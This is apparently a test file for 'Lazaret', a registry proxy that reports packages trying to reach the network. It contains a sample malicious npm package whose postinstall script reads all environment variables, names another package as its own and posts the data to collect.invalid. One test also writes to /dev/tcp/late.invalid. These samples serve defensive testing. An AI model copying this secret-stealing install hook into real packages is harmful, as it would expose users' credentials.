import { spawnSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import t from 'tap'
import { npmTarball } from '../registry/build.ts'
import { outerPath } from '../registry/clients.ts'
import { startWorld } from '../registry/registry.ts'
import { holdLazaret } from './in-process.ts'
import { runLazaret } from './lazaret.ts'

const OLD = '2022-01-02T03:04:05.000Z'
const MARK = 'mark-of-a-secret'
const ada = { actor: { kind: 'user', name: 'ada' }, role: 'admin' } as const

/** Reads what it finds, names another package as its own, and sends to hosts that do not exist. */
const STEAL = `const fs = require('node:fs')
const { spawnSync } = require('node:child_process')
const loot = JSON.stringify(process.env)
fs.writeFileSync('loot', loot)
const send = "fetch('https://collect.invalid/v1', { method: 'POST', body: process.argv[1] }).catch(() => {})"
const env = { ...process.env, npm_package_name: 'left-alone', npm_package_version: '1.0.0' }
spawnSync(process.execPath, ['-e', send, loot.slice(0, 50)], { env, cwd: '/tmp' })
`

const world = await startWorld()
const hooked = { scripts: { postinstall: 'node steal.js' } }
world.npm.publish({ built: npmTarball({ name: 'thief', version: '1.0.0' }), publishedAt: OLD })
world.npm.publish({
  built: npmTarball({ name: 'thief', version: '1.0.1', manifest: hooked, files: { 'steal.js': STEAL } }),
  publishedAt: OLD,
})
world.npm.publish({ built: npmTarball({ name: 'left-alone', version: '1.0.0' }), publishedAt: OLD })
const lazaret = await holdLazaret({ world, dataDir: t.testdir({}) })
const url = lazaret.npmUrl.replace('/npm/', '')
const { store, desk, config } = lazaret.app
const project = mkdtempSync(join(tmpdir(), 'lazaret-attempts-'))
const home = mkdtempSync(join(tmpdir(), 'lazaret-home-'))
t.teardown(async () => {
  for (const folder of [project, home]) rmSync(folder, { recursive: true, force: true })
  await lazaret.stop()
  await world.close()
})

const post = (body: unknown, headers: Record<string, string> = {}) =>
  fetch(`${url}/api/v1/attempts`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  })
const told = () => store.records.events({ type: 'attempt.told' }, { limit: 100 })
const isAble = spawnSync('unshare', ['--net', '--map-root-user', 'bwrap', '--ro-bind', '/', '/', 'true']).status === 0

await fetch(`${lazaret.npmUrl}thief/-/thief-1.0.0.tgz`)
await fetch(`${lazaret.npmUrl}thief/-/thief-1.0.1.tgz`)
const [row] = await desk.cases.queue({ state: 'open' }, { limit: 5 })
const caseId = row?.case.id ?? ''

t.test('what is told of a stored package is on its case and its page, and no proof', async (t) => {
  const host = 'told.invalid'
  const answer = await post({ attempts: [{ host, port: 443, package: 'npm:thief@1.0.1', process: 'node steal.js' }] })
  t.same([answer.status, await answer.json()], [200, { events: 1, ofPackages: 1 }])
  t.match(await told(), [
    {
      actor: { kind: 'client', name: 'anonymous' },
      registry: 'npm',
      purl: 'pkg:npm/thief@1.0.1',
      detail: { hosts: ['told.invalid:443'], process: 'node steal.js', told_by: 'a client, without proof' },
    },
  ])
  const detail = await desk.cases.one(caseId)
  t.match(detail, { attempts: [{ to: 'told.invalid:443', times: 1 }], case: { state: 'open' } })
  t.ok(detail.history.some(({ type }) => type === 'attempt.told'))
  const page = await fetch(`${url}/why/pkg:npm/thief@1.0.1`, { headers: { accept: 'text/html' } })
  t.match(await page.text(), /Tried to reach[\s\S]*no proof[\s\S]*told\.invalid:443/)
  t.equal((await fetch(`${lazaret.npmUrl}thief/-/thief-1.0.0.tgz`)).status, 200, 'another version is served as before')
})

for (const [situation, named] of [
  ['a version that is not here', 'npm:thief@9.0.0'],
  ['no version', 'npm:thief'],
  ['another ecosystem', 'pypi:thief@1.0.1'],
  ['an entry of every object', 'constructor:thief@1.0.1'],
  ['nonsense with control characters', 'npm:\u001b[2Jthief\n@@'],
  ['nothing', undefined],
] as const)
  t.test(`the package is not known by ${situation}: it stays as it was said, and lies on no file`, async (t) => {
    const attempt = { host: 'unknown.invalid', ...(named === undefined ? {} : { package: named }) }
    t.same(await (await post({ attempts: [attempt] })).json(), { events: 1, ofPackages: 0 })
    const [event] = await told()
    t.notOk(event?.purl ?? event?.digest)
    t.match(event?.detail, { hosts: ['unknown.invalid'], package: named === undefined ? 'unknown' : /thief/ })
    // eslint-disable-next-line no-control-regex
    t.notMatch(String(event?.detail['package']), /[\u0000-\u001F]/)
  })

t.test('what is too long, too much or no attempt is refused, and nothing is written', async (t) => {
  const before = (await told()).length
  const one = { host: 'a.invalid' }
  for (const [situation, body, status] of [
    ['no JSON', '{', 400],
    ['none', { attempts: [] }, 400],
    ['too many', { attempts: Array.from({ length: 101 }, () => one) }, 400],
    ['a long host', { attempts: [{ host: 'a'.repeat(254) }] }, 400],
    ['a port that is none', { attempts: [{ ...one, port: 65_536 }] }, 400],
    ['a long command', { attempts: [{ ...one, process: 'x'.repeat(401) }] }, 400],
    ['a key of its own', { attempts: [{ ...one, proven: true }] }, 400],
    ['a body that is too large', JSON.stringify({ attempts: [one], more: 'x'.repeat(200_000) }), 413],
  ] as const)
    t.equal((await post(body)).status, status, situation)
  t.equal((await told()).length, before)
})

t.test('many packages and hosts share events that are bounded', async (t) => {
  const before = (await told()).length
  const attempts = Array.from({ length: 100 }, (_, index) => ({
    host: `h${index}.invalid`,
    package: `npm:p${index % 50}@1.0.0`,
  }))
  t.same(await (await post({ attempts })).json(), { events: 21, ofPackages: 0 })
  const events = (await told()).slice(0, -before)
  t.ok(events.some(({ detail }) => detail['more'] === 40))
  for (const { detail } of events) t.ok((detail['hosts'] as readonly string[]).length <= 20)
})

if (isAble)
  t.test('a real npm installs a package that steals: it is told of the package, whatever that says', async (t) => {
    await desk.releases.release(ada, caseId, { scope: { kind: 'digest' }, reason: 'a test' })
    writeFileSync(join(project, 'package.json'), '{"name":"shop","version":"1.0.0"}')
    const args = ['exec', '--url', url, '--', 'npm', 'install', '--ignore-scripts=false', '--foreground-scripts']
    const ran = await exec([...args, 'thief@1.0.1'])
    t.equal(ran.code, 0, ran.stderr)
    t.match(ran.stderr, /collect\.invalid +443 +npm:thief@1\.0\.1 /)
    t.notMatch(ran.stderr, /was not told/)
    const loot = readFileSync(join(project, 'node_modules/thief/loot'), 'utf8')
    t.match(loot, 'npm_package_name', 'it did look')
    t.notMatch(loot, MARK)
    t.match((await desk.cases.one(caseId)).attempts[0], { to: 'collect.invalid:443', times: 1 })
    t.notOk(
      (await told()).some(({ purl }) => purl === 'pkg:npm/left-alone@1.0.0'),
      'not of the one that it named',
    )
  })

if (isAble)
  t.test('where Lazaret does not take it the install is as it was, and that is said', async (t) => {
    for (let tries = 0; tries < 70 && (await post({ attempts: [{ host: 'a.invalid' }] })).status === 200; tries += 1);
    const refused = await post({ attempts: [{ host: 'a.invalid' }] })
    t.match([refused.status, await refused.text()], [429, /try again in/])
    const ran = await exec([
      'exec',
      '--url',
      url,
      '--',
      'bash',
      '-c',
      'echo x > /dev/tcp/late.invalid/443; echo y > out',
    ])
    t.equal(ran.code, 0, ran.stderr)
    t.match(ran.stderr, /late\.invalid +443 +unknown package .*\n[^]*Lazaret was not told of them.*status 429/)
    t.ok(existsSync(join(project, 'out')))
  })

t.test('a registry that asks for a token takes what is told with one alone', async (t) => {
  const { host } = new URL(url)
  const closed = await holdLazaret({
    world,
    dataDir: t.testdir({}),
    env: { LAZARET_NPM_ACCESS: 'required', LAZARET_PYPI_ACCESS: 'required' },
  })
  t.teardown(() => closed.stop())
  t.not(new URL(closed.npmUrl).host, host)
  t.same(
    closed.app.config.registries.map(({ access }) => access),
    config.registries.map(() => 'required'),
  )
  const { secret } = await closed.app.desk.tokens.add(ada, { name: 'ci', project: 'shop' })
  const ask = (authorization: string) =>
    fetch(`${closed.npmUrl.replace('/npm/', '')}/api/v1/attempts`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization },
      body: '{"attempts":[{"host":"a.invalid"}]}',
    })
  t.equal((await ask('')).status, 401)
  t.equal((await ask('Bearer wrong')).status, 401)
  t.equal((await ask(`Bearer ${secret}`)).status, 200)
  const events = await closed.app.store.records.events({ type: 'attempt.told' }, { limit: 5 })
  t.match(events, [{ actor: { name: 'ci' }, detail: { project: 'shop' } }])
  t.equal(events.length, 1)
})

/** In the folder of the project, and without this process's own Node in the PATH: the machine's npm is none of its. */
function exec(args: readonly string[]) {
  const env = { PATH: outerPath(), HOME: home, DEPLOY_TOKEN: MARK }
  return runLazaret(args, env, '', project)
}
